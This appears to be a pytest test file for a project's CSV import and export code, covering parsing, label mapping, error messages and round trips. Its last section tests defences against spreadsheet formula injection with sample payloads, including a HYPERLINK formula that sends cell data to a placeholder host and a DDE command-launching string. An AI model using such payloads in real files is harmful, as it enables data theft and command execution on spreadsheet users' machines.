"""Reading and validating a user's CSV file, and writing one back."""

import csv
import io

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from perceptron.data import csv_io as C
from perceptron.data import datasets as D


def err(data, **kw) -> str:
    with pytest.raises(C.CsvError) as info:
        C.read_csv(data, **kw)
    return str(info.value)


# --- good files -------------------------------------------------------------------------------


def test_simple_file():
    r = C.read_csv(b"x1,x2,label\n0.5,1,0\n-2,3e-1,1\n")
    ds = r.dataset
    np.testing.assert_array_equal(ds.X, [[0.5, 1.0], [-2.0, 0.3]])
    assert ds.y.tolist() == [0, 1] and ds.test.tolist() == [False, False]
    assert ds.feature_names == ("x1", "x2") and ds.class_names == ("0", "1") and ds.source == "csv"
    assert r.notes == () and r.columns == ("x1", "x2", "label")


def test_csv_error_is_a_value_error():
    assert issubclass(C.CsvError, ValueError)
    assert C.MAX_ROWS == 5000 and C.MAX_BYTES == 1_000_000


@pytest.mark.parametrize("prefix", [b"", b"\xef\xbb\xbf"])
def test_utf8_with_or_without_bom(prefix):
    r = C.read_csv(prefix + "größe,höhe,Art\n1,2,á\n3,4,b\n".encode())
    assert r.columns == ("größe", "höhe", "Art")
    assert r.dataset.class_names == ("á", "b") or r.dataset.class_names == ("b", "á")


def test_text_input_and_crlf():
    r = C.read_csv("a,b,c\r\n1,2,0\r\n3,4,1\r\n\r\n")
    assert r.dataset.n == 2


@pytest.mark.parametrize("sep, name", [(";", "semicolon"), ("\t", "tab")])
def test_delimiters(sep, name):
    text = sep.join(["a", "b", "label"]) + "\n" + sep.join(["1.5", "2", "1"]) + "\n" + sep.join(["3", "4", "0"])
    r = C.read_csv(text)
    np.testing.assert_array_equal(r.dataset.X, [[1.5, 2], [3, 4]])
    assert r.dataset.y.tolist() == [1, 0]
    assert any(name in note for note in r.notes)


@pytest.mark.parametrize("name", ["label", "Class", "TARGET", "y", "species"])
def test_label_column_found_by_name(name):
    r = C.read_csv(f"{name},p,q\n0,1,2\n1,3,4\n")
    assert r.dataset.feature_names == ("p", "q")
    np.testing.assert_array_equal(r.dataset.X, [[1, 2], [3, 4]])
    assert r.dataset.y.tolist() == [0, 1]


def test_label_defaults_to_last_column():
    r = C.read_csv("p,q,outcome\n1,2,0\n3,4,1\n")
    assert r.dataset.feature_names == ("p", "q") and r.dataset.y.tolist() == [0, 1]


def test_more_columns_uses_first_two_numeric_and_notes_it():
    r = C.read_csv("name,a,b,c,label\nann,1,2,3,0\nbob,4,5,6,1\n")
    assert r.dataset.feature_names == ("a", "b")
    np.testing.assert_array_equal(r.dataset.X, [[1, 2], [4, 5]])
    assert 'Used columns “a” and “b” as features; ignored “name”, “c”.' in r.notes
    assert r.columns == ("name", "a", "b", "c", "label")


def test_caller_picks_columns():
    text = "a,b,c,kind\n1,2,3,x\n4,5,6,z\n"
    r = C.read_csv(text, features=("c", "a"), label="kind")
    assert r.dataset.feature_names == ("c", "a")
    np.testing.assert_array_equal(r.dataset.X, [[3, 1], [6, 4]])
    assert r.dataset.class_names == ("x", "z")
    r = C.read_csv(text, label="c", features=("a", "b"))
    assert r.dataset.y.tolist() == [0, 1] and r.dataset.class_names == ("3", "6")


def test_split_column_sets_test_mask():
    r = C.read_csv("a,b,label,split\n1,2,0,train\n3,4,1,TEST\n5,6,1, test\n")
    assert r.dataset.test.tolist() == [False, True, True]
    assert r.dataset.counts == {"train": {0: 1, 1: 0}, "test": {0: 0, 1: 2}}
    assert not any("ignored" in n for n in r.notes)


def test_split_column_bad_value():
    m = err("a,b,label,split\n1,2,0,train\n3,4,1,validation\n")
    assert "Row 3" in m and '“split”' in m and "validation" in m and '"train" or "test"' in m


def test_large_finite_numbers_accepted():
    r = C.read_csv("a,b,label\n1e6,-2.5e6,0\n1e300,0,1\n")
    assert r.dataset.X[1, 0] == 1e300


def test_duplicates_kept_with_note():
    r = C.read_csv("a,b,label\n1,2,0\n1,2,0\n1,2,0\n3,4,1\n3,4,1\n")
    assert r.dataset.n == 5
    assert "Found 3 duplicate rows (kept)." in r.notes


def test_column_names_returned_exactly():
    r = C.read_csv('"<b>x</b>"," $y$ ","lab,el"\n1,2,0\n3,4,1\n')
    assert r.columns == ("<b>x</b>", " $y$ ", "lab,el")
    assert r.dataset.feature_names == ("<b>x</b>", " $y$ ")


# --- labels -----------------------------------------------------------------------------------


def test_labels_zero_one_no_note():
    r = C.read_csv("a,b,label\n1,2,1.0\n3,4,0\n")
    assert r.dataset.y.tolist() == [1, 0] and r.notes == ()


def test_labels_minus_one_one():
    r = C.read_csv("a,b,label\n1,2,-1\n3,4,1\n")
    assert r.dataset.y.tolist() == [0, 1]
    assert r.dataset.class_names == ("-1", "1")
    assert "Labels mapped: “-1” → 0, “1” → 1." in r.notes


def test_labels_any_two_numbers():
    r = C.read_csv("a,b,label\n1,2,7\n3,4,3\n5,6,7\n")
    assert r.dataset.y.tolist() == [1, 0, 1]
    assert r.dataset.class_names == ("3", "7")
    assert "Labels mapped: “3” → 0, “7” → 1." in r.notes


def test_labels_words_sorted():
    r = C.read_csv("a,b,label\n1,2,yes\n3,4,no\n5,6,yes\n")
    assert r.dataset.y.tolist() == [1, 0, 1]
    assert r.dataset.class_names == ("no", "yes")
    assert 'Labels mapped: “no” → 0, “yes” → 1.' in r.notes


def test_iris_species_labels():
    rows = "\n".join(f"{1 + i * 0.1},{2 - i * 0.1},{'versicolor' if i % 2 else 'setosa'}" for i in range(6))
    r = C.read_csv("petal_length_cm,petal_width_cm,species\n" + rows)
    assert r.dataset.class_names == ("setosa", "versicolor")
    assert 'Labels mapped: “setosa” → 0, “versicolor” → 1.' in r.notes


# --- every error ------------------------------------------------------------------------------


def test_too_many_bytes():
    m = err(b"a,b,label\n" + b"1,2,0\n" * (C.MAX_BYTES // 6 + 1))
    assert "1,000,000" in m and "bytes" in m


@pytest.mark.parametrize("data", [b"a,b,c\n1,2,\x000\n", b"\xff\xfe\x00\x01binary", b"\x89PNG\r\n\x1a\n\x00\x00",
                                  "a,b,c\n1,2,\x01\n"])
def test_not_text(data):
    assert "does not look like a text CSV file" in err(data)


@pytest.mark.parametrize("data", [b"", "  \n\n", b"\xef\xbb\xbf"])
def test_empty(data):
    assert "The file is empty" in err(data)


def test_header_only():
    assert "header row but no data rows" in err("a,b,label\n")


@pytest.mark.parametrize("data", ["a,b\n1,2\n", "abc\n1\n"])
def test_too_few_columns(data):
    assert "needs two feature columns and a label column" in err(data)


def test_header_required():
    assert "header row with column names is required" in err("1,2,0\n3,4,1\n")


@pytest.mark.parametrize("kw, missing", [(dict(label="kind"), '“kind”'), (dict(features=("a", "zz")), '“zz”')])
def test_named_column_not_found(kw, missing):
    m = err("a,b,label\n1,2,0\n3,4,1\n", **kw)
    assert "was not found" in m and missing in m and '“a”, “b”, “label”' in m


def test_feature_cannot_be_label():
    assert "both a feature and the label" in err("a,b,label\n1,2,0\n3,4,1\n", features=("a", "label"))


def test_ragged_row():
    m = err("a,b,label\n1,2,0\n3,4\n5,6,1\n")
    assert "Row 3 has 2 values but the header has 3 columns" in m and "comma" in m


def test_ragged_row_counts_blank_lines_like_a_spreadsheet():
    assert "Row 5 " in err("a,b,label\n1,2,0\n\n3,4,1\n5,6,1,9\n")


def test_trailing_empty_cells_tolerated():
    assert C.read_csv("a,b,label\n1,2,0,\n3,4,1,,\n").dataset.n == 2


def test_non_numeric_feature():
    m = err("a,b,label\n1,2,0\n3,four,1\n")
    assert 'Row 3, column “b” holds “four”, which is not a number' in m


def test_non_numeric_value_truncated():
    long = "x" * 200
    m = err(f"a,b,label\n1,{long},0\n3,4,1\n")
    assert "Row 2" in m and long not in m and "x" * 20 in m and "…" in m


def test_decimal_comma_explained():
    assert "decimal separator" in err("a;b;label\n1,5;2;0\n3;4;1\n")


@pytest.mark.parametrize("cell", ["", "  "])
def test_empty_feature_cell(cell):
    m = err(f"a,b,label\n1,2,0\n{cell},4,1\n")
    assert 'Row 3 has an empty cell in column “a”' in m


def test_empty_label_cell():
    assert 'Row 2 has an empty cell in the label column “label”' in err("a,b,label\n1,2,\n3,4,1\n")


@pytest.mark.parametrize("value", ["nan", "NaN", "inf", "-Infinity", "1e999"])
def test_non_finite_feature(value):
    m = err(f"a,b,label\n1,2,0\n3,{value},1\n")
    assert 'Row 3, column “b”' in m and "NaN or infinity" in m


def test_one_class():
    m = err("a,b,label\n1,2,yes\n3,4,yes\n")
    assert "only one class" in m and '“yes”' in m


def test_three_classes_lists_them():
    m = err("a,b,label\n1,2,a\n3,4,b\n5,6,c\n")
    assert "3 classes" in m and '“a”, “b”, “c”' in m


def test_many_classes_lists_five():
    rows = "".join(f"{i},{i},c{i}\n" for i in range(8))
    m = err("a,b,label\n" + rows)
    assert "8 classes" in m and '“c4”' in m and '“c5”' not in m and "and 3 more" in m


def test_too_many_rows():
    m = err("a,b,label\n" + "1,2,0\n3,4,1\n" * 6, max_rows=10)
    assert "12 data rows" in m and "at most 10" in m
    m = err("a,b,label\n" + "1,2,0\n" * (C.MAX_ROWS + 1))
    assert "5,001" in m and "5,000" in m


def test_max_rows_exactly():
    assert C.read_csv("a,b,label\n" + "1,2,0\n3,4,1\n" * 5, max_rows=10).dataset.n == 10


# --- writing ----------------------------------------------------------------------------------


def test_to_csv_columns():
    ds = D.make_dataset("xor", n=4, test_fraction=0.5)
    lines = C.to_csv(ds).splitlines()
    assert lines[0] == '"x1","x2","label","split"'
    assert len(lines) == 5
    assert sorted(line.split(",")[3] for line in lines[1:]) == ["test", "test", "train", "train"]


def test_iris_round_trip_keeps_names():
    ds = D.load_iris(test_fraction=0.2)
    r = C.read_csv(C.to_csv(ds))
    np.testing.assert_array_equal(r.dataset.X, ds.X)
    np.testing.assert_array_equal(r.dataset.y, ds.y)
    np.testing.assert_array_equal(r.dataset.test, ds.test)
    assert r.dataset.feature_names == ds.feature_names
    assert any("duplicate rows (kept)" in note for note in r.notes)  # Iris has repeated measurements


def test_round_trip_feature_named_like_label():
    ds = D.Dataset(X=[[1, 2], [3, 4]], y=[0, 1], test=[False, True], feature_names=("y", "split"))
    r = C.read_csv(C.to_csv(ds))
    np.testing.assert_array_equal(r.dataset.X, ds.X)
    np.testing.assert_array_equal(r.dataset.y, ds.y)
    np.testing.assert_array_equal(r.dataset.test, ds.test)


finite = st.floats(allow_nan=False, allow_infinity=False)
names = st.text(max_size=12)


@st.composite
def datasets(draw):
    n = draw(st.integers(2, 30))
    X = draw(st.lists(st.tuples(finite, finite), min_size=n, max_size=n))
    y = draw(st.lists(st.integers(0, 1), min_size=n, max_size=n).filter(lambda v: 0 < sum(v) < len(v)))
    test = draw(st.lists(st.booleans(), min_size=n, max_size=n))
    return D.Dataset(X=np.array(X, dtype=float), y=y, test=test, feature_names=(draw(names), draw(names)))


@given(datasets())
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
def test_round_trip(ds):
    r = C.read_csv(C.to_csv(ds))
    np.testing.assert_array_equal(r.dataset.X, ds.X)
    np.testing.assert_array_equal(r.dataset.y, ds.y)
    np.testing.assert_array_equal(r.dataset.test, ds.test)


@given(st.binary(max_size=300))
@settings(max_examples=200, deadline=None)
def test_arbitrary_bytes_only_csv_error(data):
    try:
        C.read_csv(data)
    except C.CsvError:
        pass


tokens = st.sampled_from([*'ab,;\t\n\r"01-.e x', "nan", "inf", "1e6", "train", "test", "split", "label",
                          "\ufeff", "\x00"])
csv_like = st.lists(tokens, max_size=60).map("".join)


@given(st.one_of(csv_like, st.text(max_size=200)))
@settings(max_examples=200, deadline=None)
def test_arbitrary_text_only_csv_error(text):
    try:
        r = C.read_csv(text)
    except C.CsvError:
        return
    ds = r.dataset
    assert ds.X.shape == (ds.n, 2) and np.all(np.isfinite(ds.X))
    assert set(ds.y.tolist()) == {0, 1}


# --- the export opens in a spreadsheet as text (OWASP's CSV injection) and loads back unchanged ---------------

FORMULAS = ['=HYPERLINK("http://e.invalid/?"&A2,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3",
            "\tx", "\r=1", "=1+1", "−1", "＝1", "'=quoted", "plain", "a=b"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("name", FORMULAS)
def test_an_exported_name_never_starts_a_formula_and_reads_back(name):
    data = C.read_csv(f'{C.spreadsheet_text("x")},"{name.replace(chr(34), chr(34) * 2)}",label\n1,2,a\n3,4,b\n')
    out = C.to_csv(data.dataset)
    for cell in _cells(out):  # numbers may start with "-": a spreadsheet reads them as numbers, not formulas
        assert cell[:1] not in C.FORMULA_START or _is_number(cell), cell
    back = C.read_csv(out).dataset
    read = data.dataset.feature_names[1]  # "'=quoted" reads as "=quoted": the apostrophe is the escape's
    flat = "".join(" " if ord(ch) < 32 else ch for ch in read)  # a control character is written as a space
    assert back.feature_names == ("x", flat)  # else the name comes back as the file had it
    np.testing.assert_array_equal(back.X, data.dataset.X)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@given(st.text(min_size=1, max_size=20))
def test_any_name_exports_as_spreadsheet_text_and_reads_back(name):
    name = "".join(" " if ord(ch) < 32 or ch == "\x7f" else ch for ch in name)
    if not name.strip() or name.strip().lower() in (*C.LABEL_NAMES, C.SPLIT_NAME):
        return
    ds = D.Dataset(X=np.array([[1.0, 2.0], [-3.5, 4.0]]), y=np.array([0, 1]), test=np.array([False, True]),
                 feature_names=(name, "b"), class_names=("0", "1"), source="csv")
    out = C.to_csv(ds)
    header = next(csv.reader(io.StringIO(out)))
    assert all(cell[:1] not in C.FORMULA_START for cell in header), header
    back = C.read_csv(out).dataset
    assert back.feature_names == (name, "b")
